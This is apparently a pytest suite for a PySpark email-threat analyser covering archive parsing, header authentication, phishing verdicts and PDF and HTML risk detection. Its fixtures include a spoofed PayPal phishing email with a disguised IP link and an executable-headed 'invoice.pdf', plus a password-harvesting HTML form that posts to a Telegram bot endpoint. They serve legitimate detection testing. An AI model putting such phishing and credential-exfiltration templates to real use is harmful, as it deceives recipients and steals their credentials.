import base64
import email
import email.policy
import gzip
import io
import lzma
import random
import struct
import time
import zipfile
import zlib

import pytest
from pyspark.sql import functions as F

from vellum.operators import containers, content, language, thread
from vellum.plans import analysis
from vellum.plans import messages as corpus
from vellum.sources import archives, mail, sevenzip

GOOD = b"""Received: from mail.contoso.com (mail.contoso.com [198.51.100.9]) by mx.example.org; Mon, 15 Jan 2024 10:00:05 +0000
Authentication-Results: mx.example.org; spf=pass smtp.mailfrom=a@contoso.com; dkim=pass (2048-bit key; semi) header.d=contoso.com; dmarc=pass
From: "Jane Doe" <jane@contoso.com>
To: someone@example.org
Subject: Lunch
Date: Mon, 15 Jan 2024 10:00:00 +0000
Message-ID: <1@contoso.com>
Content-Type: text/plain

See you at noon.
"""
BAD = b"""Received: from unknown (HELO x) ([203.0.113.7]) by mx.example.org; Mon, 15 Jan 2024 10:00:05 +0000
Authentication-Results: mx.example.org; spf=fail smtp.mailfrom=x@mailer.test; dkim=none; dmarc=fail
From: "PayPal Support" <service@paypa1.com>
Reply-To: help@gmail.com
To: someone@example.org
Subject: =?utf-8?B?QWNjb3VudCBzdXNwZW5kZWQ=?=
Date: Mon, 15 Jan 2024 10:00:00 +0000
Message-ID: <1@paypa1.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/html; charset=utf-8

<p>Act now. <a href="http://203.0.113.9/login">www.paypal.com</a></p>
--b
Content-Type: application/pdf; name="invoice.pdf"
Content-Disposition: attachment; filename="invoice.pdf"
Content-Transfer-Encoding: base64

TVqQAAMAAAA=
--b--
"""


def sevenzip_of(name: str, data: bytes, compress: bool = True) -> bytes:
    """A 7z archive with one file, written from the format's description."""
    number = lambda n: bytes([n]) if n < 0x80 else b"\xff" + struct.pack("<Q", n)
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]
    packed = lzma.compress(data, lzma.FORMAT_RAW, filters=filters) if compress else data
    coder = b"\x21\x21\x01\x10" if compress else b"\x01\x00"
    title = b"\0" + (name + "\0").encode("utf-16-le")
    header = (
        b"\x01\x04\x06" + number(0) + number(1) + b"\x09" + number(len(packed)) + b"\0"
        + b"\x07\x0b" + number(1) + b"\0" + number(1) + coder + b"\x0c" + number(len(data)) + b"\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\0"
        + b"\x08\0\0" + b"\x05" + number(1) + b"\x11" + number(len(title)) + title + b"\0\0"
    )
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return sevenzip.MAGIC + b"\0\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name.replace("__", "."), data)
    return out.getvalue()


def frame(spark, *raws):
    return spark.createDataFrame([(f"m{i}.eml", bytearray(r)) for i, r in enumerate(raws)], "path string, content binary")


def test_archives():
    names = lambda raw, name="x": [(n, a, e) for n, a, b, e in archives.messages(name, raw, [None, "infected"])]
    assert names(zipped(a__eml=GOOD, b__png=b"x"), "z.zip") == [("a.eml", "z.zip", None)]
    assert names(gzip.compress(GOOD), "a.eml.gz") == [("a.eml", "a.eml.gz", None)]
    assert names(zipped(inner__zip=zipped(a__eml=GOOD)), "z.zip") == [("a.eml", "z.zip › inner.zip", None)]
    assert names(b"\0\1\2")[0][2].startswith("not an email")
    assert names(b"PK\x03\x04broken")[0][2]


@pytest.mark.parametrize("compress", [True, False])
def test_sevenzip(compress):
    raw = sevenzip_of("dir/a.eml", GOOD * 50, compress)
    assert sevenzip.read(raw) == [("dir/a.eml", GOOD * 50)]
    assert [m[2] for m in archives.messages("a.7z", raw, [None])] == [GOOD * 50]


def test_corrupted_archives_never_raise():
    rng = random.Random(5)
    for seed in (zipped(a__eml=GOOD), sevenzip_of("a.eml", GOOD), gzip.compress(GOOD)):
        for _ in range(60):
            raw = bytearray(seed)
            for _ in range(rng.randint(1, 8)):
                raw[rng.randrange(len(raw))] = rng.randrange(256)
            list(archives.messages("x", bytes(raw[: rng.randint(1, len(raw))]), [None, "infected"]))


def test_winzip_aes_round_trip():
    import hashlib
    import hmac

    import numpy as np

    from vellum.sources import aes

    salt, text = b"0123456789abcdef", b"secret content" * 9
    keys = hashlib.pbkdf2_hmac("sha1", b"pw", salt, 1000, 66)
    counters = np.zeros((-(-len(text) // 16), 16), dtype=np.uint8)
    counters[:, 0] = np.arange(1, len(counters) + 1)
    stream = aes.encrypt(counters, aes.round_keys(keys[:32])).tobytes()
    data = bytes(a ^ b for a, b in zip(text, stream))
    raw = salt + keys[64:] + data + hmac.new(keys[32:64], data, "sha1").digest()[:10]
    assert aes.winzip_decrypt(raw, "pw", 3) == text
    assert aes.winzip_decrypt(raw, "other", 3) is None


def test_clauses():
    server, found = mail.clauses('mx; spf=pass (says "a; b") smtp.mailfrom=a@b.test; dkim=fail header.d=c.test')
    assert server == "mx" and [c["method"] for c in found] == ["spf", "dkim"] and found[1]["props"] == {"header.d": "c.test"}
    assert mail.clauses("spf=pass (x)")[0] is None


def test_tables(spark):
    m = mail.read_messages(frame(spark, GOOD, BAD, b"\0bin")).cache()
    assert [r["error"] for r in m.orderBy("message_id").collect()] == [None, None, "not an email: binary content"]
    core = {r["subject"]: r for r in mail.core(m.where("error IS NULL")).collect()}
    assert core["Account suspended"]["sender"]["email"] == "service@paypa1.com" and core["Lunch"]["date_s"] == 1705312800
    assert [r["ip"] for r in mail.hops(m).orderBy("message_id").collect()] == ["198.51.100.9", "203.0.113.7"]
    assert mail.parts(m).where("is_file").first()["filename"] == "invoice.pdf"


def test_verdicts(spark):
    m = mail.read_messages(frame(spark, GOOD, BAD))
    got = {r["subject"]: r for r in analysis.analyse(m, language.default_dictionary(spark)).collect()}
    assert got["Lunch"]["tier"] == "Low Risk" and got["Lunch"]["findings"] == []
    bad = got["Account suspended"]
    assert bad["tier"] == "High Risk" and "Impersonation" in bad["attack_types"] and "Malware delivery" in bad["attack_types"] and "Sender spoofing" in bad["attack_types"]
    assert bad["public_ip"] == "203.0.113.7" and bad["origin_ip"] == "203.0.113.7"
    assert got["Lunch"]["reasons"] != bad["reasons"] and {"dmarc-fail", "misaligned"} <= set(bad["reasons"]) and len(set(bad["reasons"])) == len(bad["reasons"])


def test_containers(spark):
    found = {n: (depth, [t for t, _ in f.risks]) for n, _, depth, _, f, _ in containers.walk([("a.zip", "", zipped(run__exe=b"MZ", inner__zip=zipped(b__txt=b"x")))], [])}
    assert found == {"a.zip": (0, ["archive-executable", "nested-archive"]), "run.exe": (1, []), "inner.zip": (1, []), "b.txt": (2, [])}
    locked = containers.inspect("x.pdf", "", b"%PDF-1.4 /JavaScript /URI (http://a.test) /Launch", [], 10)
    assert [t for t, _ in locked.risks] == ["pdf-javascript", "pdf-launch"] and locked.links == ["http://a.test"]


def test_html_findings_reach_the_verdict(spark):
    page = b"<form action='https://api.telegram.org/bot1/sendMessage'><input type=password></form><script>x = atob('" + base64.b64encode(bytes(range(128, 250)) * 2) + b"')</script>"
    raw = BAD.replace(b"application/pdf; name=\"invoice.pdf\"", b"text/html; name=\"a.html\"").replace(b"invoice.pdf", b"a.html").replace(b"TVqQAAMAAAA=", base64.b64encode(page))
    got = analysis.analyse(mail.read_messages(frame(spark, GOOD, raw)), language.default_dictionary(spark)).collect()
    good, bad = sorted(got, key=lambda r: r["message_id"])
    assert good["tier"] == "Low Risk" and good["auth_overall"]["level"] == "pass"
    assert bad["tier"] == "High Risk" and bad["auth_overall"]["level"] == "fail" and bad["iocs"] > good["iocs"]
    core = mail.core(mail.read_messages(frame(spark, raw)))
    risks = analysis.hidden_risks(mail.read_messages(frame(spark, raw)), core).first()["page_risks"]
    assert {r["type"] for r in risks} == {"login-form", "smuggled-file"}
    sent = analysis.page_destinations(mail.read_messages(frame(spark, raw)), core).where("sending").collect()
    assert [r["value"] for r in sent] == ["https://api.telegram.org/bot1/sendMessage"]


def test_pdf_streams():
    deflated = lambda text: b"obj << /Filter /FlateDecode >>\nstream\n" + zlib.compress(text) + b"\nendstream\nendobj\n"
    late = b"%PDF-1.4\n" + deflated(b"nothing") * 60 + deflated(b"<< /S /Launch >>")
    assert [k for k, _ in content.pdf_risks(late)[0]] == ["pdf-launch"]
    assert content.pdf_risks(b"%PDF-1.4\n" + deflated(b"x") * 80 + deflated(b"/Launch "))[0] == []
    assert [k for k, _ in content.pdf_risks(b"%PDF\n<< /Java#53cript (a) >> (#2FLaunch)")[0]] == ["pdf-javascript"]
    bomb = content.pdf_text(b"%PDF\n" + deflated(b"a" * 1_000_000) * 20, most=3_000_000)
    assert bomb.count("a") < 3_100_000


def test_dates_and_blocks():
    day = lambda text: (thread.claimed_date(text) or {}).get("ts")
    assert day("Mon, Jan 15, 2024 at 12:30 PM") == day("15 January 2024 12:30") == 1705321800 and day("Jan 15, 2024 12:05 am") == 1705277100
    assert day("15/01/2024") is None and day("January 2024") is None and thread.claimed_date("Friday, 30 February 2024") == {"valid": False, "ts": None, "weekday_claimed": 5, "weekday_actual": None}
    text = "-----Original Message-----\nVon: Anna <anna@a.test>\nGesendet: Montag\n\nBetreff: Hallo\nAn: b\nVon: again\n\n> Le 3 mars 2024, Jean <jean@b.test>\n> a écrit :\nno one wrote:"
    got = thread.quoted(text)
    assert got["separators"] == 1 and [(m["style"], m["email"], m["subject"]) for m in got["messages"]] == [("header block", "anna@a.test", "Hallo"), ("attribution line", "jean@b.test", None)]
    assert got["messages"][1]["date"] == "3 mars 2024" and thread.quoted(None) == {"separators": 0, "messages": []}


def test_thread():
    got = thread.quoted("Hi\n\nFrom: Bob <bob@acme.test>\nSent: Monday, January 16, 2024 10:00 AM\nTo: x\nSubject: Pay\n\nok\n> On Tue, Jan 9, 2024 at 9:05 AM Ann <ann@acme.test> wrote:\n> fine")
    assert [(m["style"], m["email"], m["weekday_claimed"], m["weekday_actual"]) for m in got["messages"]] == [("header block", "bob@acme.test", 1, 2), ("attribution line", "ann@acme.test", 2, 2)]
    assert thread.claimed_date("31 February 2024")["valid"] is False


def test_greedy_matcher():
    m = language.Matcher([("bec", "strong", "wire transfer"), ("bec", "broad", "wire"), ("bec", "strong", "transfer fee"), ("lure", "strong", "gift card")])
    assert [(c, t, p) for c, t, _, _, p in m.matches("Wire-transfer fee, gift cards; wire")] == [("bec", "strong", "Wire-transfer"), ("bec", "broad", "wire"), ("lure", "strong", "gift cards")]


def test_highlights(spark):
    rows = spark.createDataFrame([(1, "act now within 24 hours please act now")], "id long, t string")
    matched = language.match(rows, "t", language.default_dictionary(spark)).select("id", "matches")
    assert sorted((r["start"], r["end"]) for r in language.highlights(matched, ["id"]).collect()) == [(0, 7), (8, 23), (31, 38)]


def test_streaming(spark, tmp_path):
    from vellum.streaming import campaigns

    rows = [(1, "ip", "1.2.3.4", "2024-01-01 10:00:00"), (1, "ip", "1.2.3.4", "2024-01-01 10:01:00"), (2, "ip", "1.2.3.4", "2024-01-01 10:02:00"), (3, "ip", "9.9.9.9", "2024-01-01 10:03:00"), (4, "ip", "8.8.8.8", "2024-01-01 15:00:00")]
    df = spark.createDataFrame(rows, "message_id long, type string, value string, at string").withColumn("at", F.to_timestamp("at"))
    df.coalesce(1).write.parquet(str(tmp_path / "in"))
    stream = campaigns.streaming_campaigns(spark.readStream.schema(df.schema).parquet(str(tmp_path / "in")))
    campaigns.write(stream, str(tmp_path / "out"), str(tmp_path / "cp"), once=True).awaitTermination()
    assert [(r["value"], r["n"]) for r in spark.read.parquet(str(tmp_path / "out")).collect()] == [("1.2.3.4", 2)]


def test_wording_patterns(spark):
    from vellum.functions import fixed
    from vellum.operators import language

    m = language.Matcher([], fixed.LANGUAGE_PATTERNS)
    cases = {
        "Pay $1,200.50 now": [("financial", "broad", "$1,200.50")],
        "12,000 EUR, € 3 million": [("financial", "broad", "12,000 EUR"), ("financial", "broad", "€ 3 m")],
        "to DE89 3704 0044 0532 0130 00 please": [("financial", "strong", "DE89 3704 0044 0532 0130 00")],
        "0x" + "aB" * 20: [("financial", "strong", "0x" + "aB" * 20)],
        "Please process the urgent wire\u00a0transfer": [("bec", "strong", "process the urgent wire\u00a0transfer")],
        "I\u2019m in a meeting, can\u2019t talk": [("bec", "strong", "I\u2019m in a meeting"), ("bec", "strong", "can\u2019t talk")],
        "Routing number: 021": [("bec", "strong", "Routing number:")],
        "call us at +1 (555) 010-2030": [("social", "strong", "call us at +1 (555) 010-2030")],
        "We meet for lunch at noon": [],
    }
    for text, want in cases.items():
        assert [(c, t, p) for c, t, _, _, p in m.matches(text)] == want, text


def test_wording_sentence(spark):
    from pyspark.sql import functions as F

    from vellum.operators import language

    words = spark.createDataFrame([("urgency", "strong", "act now"), ("bec", "strong", "wire transfer"), ("financial", "broad", "invoice")], "category string, tier string, phrase string")
    rows = spark.createDataFrame([(1, "Act now: wire transfer, wire transfers, one invoice."), (2, "two invoices, invoice"), (3, None)], "id long, t string")
    got = language.match(rows, "t", words, []).select("id", language.sentence(F.col("matches")).alias("s"), language.total(language.summary(F.col("matches"))).alias("n"))
    also = " Also noted: {} broader money, pressure or persuasion term{}."
    assert {r["id"]: (r["s"], r["n"]) for r in got.collect()} == {
        1: ("Detected: 1 urgency / pressure phrase, 2 bec / payment fraud phrases." + also.format(1, ""), 38),
        2: ("No suspicious phrases detected." + also.format(2, "s"), 0), 3: ("No suspicious phrases detected.", 0),
    }


def same_as_email(raw):
    general = email.message_from_bytes(raw, policy=email.policy.compat32)
    return mail.parse(raw) == (mail.headers_of(general), list(mail.parts_of(general)))


def test_regular_messages_are_read_the_short_way():
    nested = BAD.replace(b"\n", b"\r\n").replace(b"text/html; charset=utf-8\r\n\r\n", b"multipart/alternative;\r\n\tboundary=\"c d\"\r\n\r\n--c d\r\nContent-Type: text/plain\r\n\r\nhi\r\n\r\n--c d \r\nContent-Type: text/html\r\n\r\n").replace(b"</p>\r\n", b"</p>\r\n--c d--\r\n")
    for raw in (GOOD, BAD, nested):
        assert mail.regular(raw) and same_as_email(raw)
    assert [p[0] for p in mail.parse(nested)[1]] == [[0, 0], [0, 1], [1]]
    for raw in (b"", b"x", b"Subject: a", BAD.replace(b"--b--", b""), BAD.replace(b"Subject", b"S\xc3\xbcbject"), BAD.replace(b"text/html", b"message/rfc822"), b"From x\n" + GOOD, GOOD.replace(b"\n", b"\r")):
        with pytest.raises(mail.Irregular):
            mail.regular(raw)
        assert same_as_email(raw)
    rng = random.Random(3)
    for seed in (GOOD, BAD, nested):
        for _ in range(300):
            at = rng.randrange(len(seed))
            assert same_as_email(seed[:at] + rng.choice([b"\r\n", b"\n", b"\r", b"--b", b"--b--\n", b" ", b"\t", b":", b"\xff", b";", b"\n\n", b""]) + seed[at + rng.randrange(6) :])


def test_indicators_read_messages_once(spark):
    """One parse of a message, one shuffle, and the work dealt to as many tasks as the messages need."""
    wrapped = b"https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fa&data=1"
    plain = GOOD.replace(b"See you at noon.", b"See " + wrapped + b" and https://evil.example/a and http://x.test/b or mail bob@x.test")
    m = mail.read_messages(frame(spark, plain, BAD, b"\0bin"))
    found = analysis.indicators(m, mail.core(m, "parts"))
    assert found._jdf.queryExecution().optimizedPlan().toString().count("MapInArrow") == 1
    assert found._jdf.queryExecution().executedPlan().toString().count("Exchange") == 1
    got = {(r["message_id"][1], r["kind"], r["value"]): (r["source"], r["times"], [x["type"] for x in r["risks"]]) for r in found.collect()}
    assert got["0", "url", "https://evil.example/a"] == ("body", 1, [])
    assert got["0", "domain", "evil.example"] == ("body", 1, [])
    assert got["0", "domain", "contoso.com"][:2] == ("From", 2) and got["0", "domain", "x.test"][:2] == ("body", 1)
    assert got["1", "url", "http://203.0.113.9/login"] == ("body", 2, ["ip-url", "mismatch"]) and ("1", "domain", "203.0.113.9") not in got
    assert got["1", "ip", "203.0.113.7"][:2] == ("Received", 1) and not [k for k in got if k[0] == "2"]
    apart = {(r["message_id"][1], r["kind"], r["value"]): (r["source"], r["times"], [x["type"] for x in r["risks"]]) for r in analysis.indicators(m, mail.core(m)).collect()}
    assert apart == got


def test_raw_messages_are_dealt_to_tasks(spark, tmp_path):
    spark.range(20_000).selectExpr("id AS o_orderkey", "id AS o_custkey").coalesce(1).write.parquet(f"{tmp_path}/orders.parquet")
    assert corpus.raw(spark, str(tmp_path)).rdd.getNumPartitions() == 3


def test_headers_without_bodies(spark):
    """A head alone is read where only headers are asked for, with the same headers and errors."""
    raws = [GOOD, BAD, BAD.replace(b"\n", b"\r\n"), BAD.replace(b"Subject:", b"X-A: 1\n\tfolded\nx-b:\n  \nSubject:"), GOOD.replace(b"Lunch", b"L\xc3\xbcnch"), GOOD.replace(b"\n", b"\r"), b"", b"x", b"Subject: a", b"\0", zipped(a__eml=GOOD, b__eml=BAD), b"X-A\r:b\n\nc"]
    for raw in raws:
        assert mail.parse_headers(raw) == mail.parse(raw)[0]
    whole, heads = mail.read_messages(frame(spark, *raws)), mail.read_messages(frame(spark, *raws), bodies=False)
    kept = ["message_id", "name", "archive", "error", "headers"]
    assert "parts" not in heads.columns and sorted(heads.select(kept).collect()) == sorted(whole.select(kept).collect())
    assert [(r["name"], r["value"]) for r in mail.x_headers(heads).collect()] == [("X-A", "1 folded"), ("x-b", "")]
    long = GOOD + b"--b\n" * 2_000_000
    began = time.perf_counter()
    assert mail.parse_headers(long) == mail.parse_headers(GOOD) and time.perf_counter() - began < 0.5
